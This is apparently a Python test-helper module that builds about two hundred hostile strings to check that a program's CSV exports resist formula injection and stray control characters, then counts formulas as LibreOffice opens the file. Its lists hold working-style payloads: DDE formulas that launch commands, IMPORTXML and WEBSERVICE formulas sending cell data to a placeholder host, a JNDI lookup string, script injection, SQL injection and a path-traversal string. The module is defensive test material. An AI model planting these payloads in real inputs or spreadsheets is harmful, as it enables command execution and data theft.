"""Two hundred strings that people put where a name or a reason belongs, to see what a reader makes of them."""

from __future__ import annotations

import csv
import io
import itertools
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

STARTS = tuple("=+-@|%\t\r\n\uff1d\uff0b\uff0d\uff20")
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_FORMULAS = ["1+1", "1+cmd|' /C calc'!A0", "HYPERLINK(\"http://x\",\"y\")", "IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
             "DDE(\"cmd\";\"/C calc\")", "SUM(A1:A9)", "WEBSERVICE(\"http://x\")", "A1", "-2", "@SUM(1)"]  # fmt: skip
_TRIGGERS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "%", "|"]
_BEFORE = ["", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\ufeff", "\u200b", '"', "'", ";", ",", "a;", 'x";',
           "a\t", "a\n", 'a"\n', "\x00", "\x1b[31m", "\u202e"]  # fmt: skip
_REST = [
    "\x1b]0;title\x07", "\x1b[2J", "a\u202egnp.exe", "a\u2066b\u2069", "\u2028line", "\u2029", "\x85next", "\x0b\x0c",
    "</script><script>alert(1)</script>", "' OR 1=1 --", "{{7*7}}", "${jndi:ldap://x/a}", "%s%n%x", "\\", "\\\\", '\\"',
    '"', '""', "'", "\\n", "\\u0000", "{\"person\": \"x\"}", "}\n{\"end\": 1}", "\ud800", "\udfff\ud800", "\uffff",
    "é" * 300, "🏳️‍🌈", "a" * 5000, "\x7f", "\x00\x00", "2026-12-02T00:00:00\nfake=1", "CON", "../../etc/passwd", "\x1e",
    "\\.", "\x01\x02", "NULL", "null", "NaN", "0x10", "1e309", "=\x00cmd", "\\x1e", "a\\\\\x1e{}",
]  # fmt: skip


def strings() -> list[str]:
    """Every trigger behind everything that may stand before it, and what confuses other readers."""
    pairs = itertools.product(_BEFORE, _TRIGGERS)
    made = [f"{before}{sign}{_FORMULAS[n % len(_FORMULAS)]}" for n, (before, sign) in enumerate(pairs)]
    return made + _REST


def storable() -> list[str]:
    """The same as the database can hold them."""
    return [text.replace("\x00", "\ufffd").encode("utf-8", "replace").decode() for text in strings()]


def plain_rows(data: bytes) -> list[list[str]]:
    """The rows of a table in CSV, each cell of which is text, also to who splits at another sign."""
    text = data.decode().removeprefix("\ufeff")
    assert "\n" not in text.replace("\r\n", "")
    for delimiter, quoting in itertools.product(";\t|", (csv.QUOTE_MINIMAL, csv.QUOTE_NONE)):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting):
            assert not [value for value in row if value.lstrip(' "').startswith(STARTS)]
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for value in itertools.chain.from_iterable(rows):
        assert not value.lstrip('"` \u00a0\u3000;,').startswith(STARTS) and not CONTROL.search(value)
    return rows


def formulas(data: bytes, folder: Path) -> tuple[int, int]:
    """(rows, cells with a formula) as LibreOffice opens the table. Skips where it is not: `make programs` installs it."""
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice is not installed here")
    (folder / "table.csv").write_bytes(data)
    line = ["soffice", f"-env:UserInstallation=file://{folder}/home", "--headless", "--convert-to", "fods",
            "--outdir", str(folder), str(folder / "table.csv")]  # fmt: skip
    subprocess.run(line, check=True, capture_output=True, timeout=120)
    text = (folder / "table.fods").read_text()
    cells = ET.fromstring(text).iter(f"{_TABLE}table-cell")
    return text.count("<table:table-row"), sum(f"{_TABLE}formula" in one.attrib for one in cells)
